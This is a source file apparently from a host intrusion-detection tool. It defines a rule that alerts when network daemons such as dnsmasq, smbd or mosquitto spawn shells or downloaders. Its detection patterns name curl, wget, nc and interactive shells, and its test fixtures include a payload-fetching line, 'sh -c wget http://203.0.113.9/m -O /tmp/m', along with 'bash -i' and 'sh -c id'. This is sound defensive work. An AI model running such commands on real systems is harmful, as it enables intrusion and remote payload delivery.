import { commandRule } from "../../command-rule.js";
import { find, parentOf } from "../../shell/look.js";

/** A service that answers strangers started an interactive shell or a downloader, which is what a broken service does when somebody breaks in. */
export const serviceStartedShell = commandRule({
  id: "service-started-shell",
  alertType: "Picket_ServiceStartedShell",
  name: "Network service started a shell",
  severity: "High",
  about:
    "A service that answers strangers started an interactive shell or a downloader, which is what a broken service does when somebody breaks in.",
  tactics: ["Execution", "Initial Access", "Lateral Movement"],
  techniques: ["T1190", "T1210", "T1059.004"],
  falsePositives: ["Services with hooks written in shell; the hook's own script is the first word then."],
  parents: [
    "mosquitto",
    "snmpd",
    "dnsmasq",
    "named",
    "unbound",
    "ftpd",
    "smbd",
    "rpcbind",
    "upnpd",
    "cupsd",
    "avahi-daemon",
    "ntpd",
    "chronyd",
    "exim4",
    "master",
    "dovecot",
    "telnetd",
    "asterisk",
    "squid",
    "bluetoothd",
    "hostapd",
    "wpa_supplicant",
    "zabbix_agentd",
    "slpd",
    "lpd",
    "rsync",
  ],
  sees: (reading, event) => {
    if (
      !/\/(?:mosquitto|snmpd|dnsmasq|named|unbound|vsftpd|proftpd|pure-ftpd|smbd|rpcbind|miniupnpd|upnpd|cupsd|avahi-daemon|ntpd|chronyd|exim4|master|dovecot|telnetd|asterisk|squid|bluetoothd|hostapd|wpa_supplicant|zabbix_agentd|slpd|lpd|rsync)$/.test(
        parentOf(event),
      )
    )
      return undefined;
    return (
      find(reading, /^(?:curl|wget|tftp|ftpget|nc|ncat|whoami|id|uname|chmod|python[\d.]*|perl)$/) ??
      find(reading, /^(?:ba|da|a)?sh$/, ({ argv }) => argv.length === 1 || argv.includes("-i"))
    );
  },
  did: "made a network service start a shell",
  because: "this service does not start such programs by itself",
  fires: [
    { line: "sh", user: "root", parent: "/usr/sbin/miniupnpd" },
    { line: "/bin/sh -c wget http://203.0.113.9/m -O /tmp/m", parent: "/usr/sbin/dnsmasq" },
    { line: "sh -c id", user: "mosquitto", parent: "/usr/sbin/mosquitto" },
    { line: "bash -i", parent: "/usr/sbin/smbd" },
  ],
  silent: [
    { line: "sh /etc/dnsmasq-hook.sh add 10.0.0.5", parent: "/usr/sbin/dnsmasq" },
    { line: "sh -c /usr/lib/cups/filter/x", parent: "/usr/sbin/cupsd" },
    { line: "bash -i", parent: "/usr/sbin/sshd" },
    { line: "sh", parent: "/usr/bin/login" },
    { line: "/bin/sh /lib/netifd/dhcp.script bound", parent: "/sbin/udhcpc" },
  ],
});
